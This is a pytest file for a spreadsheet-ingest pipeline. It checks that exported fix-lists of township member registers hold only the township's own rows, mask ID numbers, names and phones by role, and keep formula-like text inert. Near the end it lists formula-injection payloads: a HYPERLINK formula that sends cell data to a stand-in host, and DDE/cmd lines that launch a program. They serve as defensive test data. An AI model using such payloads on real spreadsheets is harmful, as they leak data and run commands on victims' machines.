"""Fix-lists leave the server scoped and masked (issue #12, items 1 and 6): a township gets
its own rows of a county workbook and nothing of another township's, personal fields as its
role sees them; text that reads as a formula goes back as text."""

from __future__ import annotations

import io
import re

import openpyxl
import pytest

from pipeline.access.scope import Scope
from pipeline.ingest.batch import ingest_paths
from pipeline.ingest.fixlist import build_fixlist
from pipeline.ingest.fixlist_scope import build_scoped_fixlist
from tests.conftest import HEADER, member, valid_id

QK, LX = "钱库镇", "灵溪镇"
CLEAR_ID = re.compile(r"\d{17}[\dXx]")


def county_workbook(write_xlsx, folder):
    # write_xlsx is conftest's fixture function; folder is where the raw file goes
    """Three 钱库镇 members (one with a bad ID), two of 灵溪镇, one workbook."""
    rows = [
        member(
            1,
            "钱一鸣",
            id_number=valid_id("33032719800101001"),
            township=QK,
            phone="13811110001",
            status="失联",
        ),
        member(2, "钱二妹", id_number="330327198001011239", township=QK, phone="13811110002"),
        member(
            3, "钱三江", id_number=valid_id("33032719800101003"), township=QK, phone="13811110003"
        ),
        member(
            4, "林四海", id_number=valid_id("33032719800101004"), township=LX, phone="13922220004"
        ),
        member(
            5, "林五岳", id_number=valid_id("33032719800101005"), township=LX, phone="13922220005"
        ),
    ]
    return write_xlsx("苍南县_2022-04_全县汇总.xlsx", {"名册": [HEADER, *rows]}, folder=folder)


@pytest.fixture
def county(write_xlsx, tmp_path):
    path = county_workbook(write_xlsx, tmp_path / "raw")
    db = tmp_path / "county.duckdb"
    [result] = ingest_paths([path], db=db).files
    assert result.rows_rejected == 1 and result.rows_loaded == 4, result
    return db, path, result.file_hash


def cells(data: bytes) -> list[str]:
    book = openpyxl.load_workbook(io.BytesIO(data))
    return [
        str(c.value)
        for ws in book.worksheets
        for row in ws.iter_rows()
        for c in row
        if c.value is not None
    ]


def test_a_township_fixlist_holds_only_its_own_rows_with_ids_masked(county):
    db, path, digest = county
    data, rows = build_scoped_fixlist(db, digest, path, Scope.for_role("township", QK))
    text = "\n".join(cells(data))
    assert rows == 3  # what the audit records: the rows in the file
    assert "钱一鸣" in text and "钱二妹" in text and "13811110001" in text  # its own, in clear
    assert (
        "林四海" not in text and "林五岳" not in text and LX not in text and "1392222" not in text
    )
    assert not CLEAR_ID.search(text), "ID numbers leave masked"
    assert "问题说明" in text


def test_a_role_without_personal_data_gets_names_and_phones_masked(county):
    db, path, digest = county
    data, rows = build_scoped_fixlist(db, digest, path, Scope.for_role("analyst"))
    text = "\n".join(cells(data))
    assert rows == 5
    assert "钱一鸣" not in text and "钱*鸣" in text and "林*海" in text
    assert "13811110001" not in text and "138****0001" in text
    assert not CLEAR_ID.search(text)


def test_numbers_typed_into_other_cells_leave_masked_too(write_xlsx, tmp_path):
    """A 备注 with a relative's phone and an ID: the ID masked for every role, the phone for a
    role without personal data (the name, phone and ID columns were masked already)."""
    note = f"家属电话13722223333，身份证{valid_id('33032719650505432')}"
    rows = [
        member(1, "钱一鸣", township=QK, id_number="123") + [note],
        member(2, "钱二妹", township=QK, id_number=valid_id("33032719800101002")) + [None],
    ]
    path = write_xlsx("钱库镇_2022-04_名册.xlsx", {"名册": [[*HEADER, "备注"], *rows]})
    db = tmp_path / "n.duckdb"
    [result] = ingest_paths([path], db=db).files
    assert result.rows_rejected == 1
    analyst = "\n".join(
        cells(build_scoped_fixlist(db, result.file_hash, path, Scope.for_role("analyst"))[0])
    )
    town = "\n".join(
        cells(build_scoped_fixlist(db, result.file_hash, path, Scope.for_role("township", QK))[0])
    )
    assert "家属电话137****3333" in analyst and "13722223333" not in analyst
    assert "家属电话13722223333" in town  # the township sees its members' numbers
    for text in (analyst, town):
        assert not CLEAR_ID.search(text) and "身份证330327********" in text


def test_a_second_table_in_the_sheet_is_masked_by_its_own_header(write_xlsx, tmp_path):
    """The returnee table under the outflow table has its names where the first had 性别:
    masked by the second header, not left in clear by the first."""
    rows = [
        ["钱库镇流动党员普查登记表（2022年4月）"],
        ["序号", "性别", "姓名", "身份证号", "所在党支部", "流出时间", "流入地", "联系电话"],
        [
            1,
            "男",
            "钱外出",
            valid_id("33032719800101001"),
            "钱库社区党支部",
            "2019.5",
            "上海市",
            "13811110001",
        ],
        [2, "男", "钱错号", "123", "钱库社区党支部", "2019.5", "上海市", "13811110002"],
        [],
        ["二、返乡流动党员"],
        ["序号", "姓名", "联系电话", "身份证号", "所在党支部", "返乡时间", "创办企业", "流出时间"],
        [
            1,
            "钱返乡",
            "13811110003",
            valid_id("33032719800101003"),
            "钱库社区党支部",
            "2021-10",
            "钱家农场",
            "2018.3",
        ],
    ]
    path = write_xlsx("钱库镇_2022-04_两段.xlsx", {"名册": rows})
    db = tmp_path / "two.duckdb"
    [result] = ingest_paths([path], db=db).files
    assert (result.rows_loaded, result.rows_rejected) == (2, 1), result
    data, _rows = build_scoped_fixlist(db, result.file_hash, path, Scope.for_role("analyst"))
    text = "\n".join(cells(data))
    assert "钱*乡" in text and "钱返乡" not in text and "13811110003" not in text
    assert "钱外出" not in text and not CLEAR_ID.search(text)


FORMULAS = [
    '=HYPERLINK("http://evil.example/?q="&B2,"点击")',
    "=cmd|' /C calc'!A0",
    '=DDE("cmd";"/C calc";"x")',
]


@pytest.mark.parametrize("scoped", [False, True])
def test_fixlists_rebuilt_from_csv_carry_no_live_formula(tmp_path, scoped):
    raw = tmp_path / "raw"
    raw.mkdir()
    body = [",".join(HEADER)]
    for i, formula in enumerate(FORMULAS, start=1):
        row = member(i, f"王{i}", township=QK, id_number=valid_id(f"3303271980010100{i}"))
        row[8] = formula.replace('"', '""')  # 从事职业
        row[3] = "bad-id" if i == 1 else row[3]  # one reject, so a fix-list is made
        body.append(",".join(f'"{v}"' if v is not None else "" for v in row))
    path = raw / "钱库镇_2022-04_导出.csv"
    path.write_text("\n".join(body), encoding="utf-8")
    db = tmp_path / "f.duckdb"
    [result] = ingest_paths([path], db=db).files
    assert result.rows_rejected >= 1
    if scoped:
        data, _rows = build_scoped_fixlist(db, result.file_hash, path, Scope.for_role("admin"))
    else:
        data = build_fixlist(db, result.file_hash, path)
    book = openpyxl.load_workbook(io.BytesIO(data))
    kinds = {
        (c.coordinate, c.data_type) for ws in book.worksheets for r in ws.iter_rows() for c in r
    }
    assert not [k for k in kinds if k[1] == "f"], kinds
    text = cells(data)
    for formula in FORMULAS:
        assert formula in text  # kept as the text the township typed
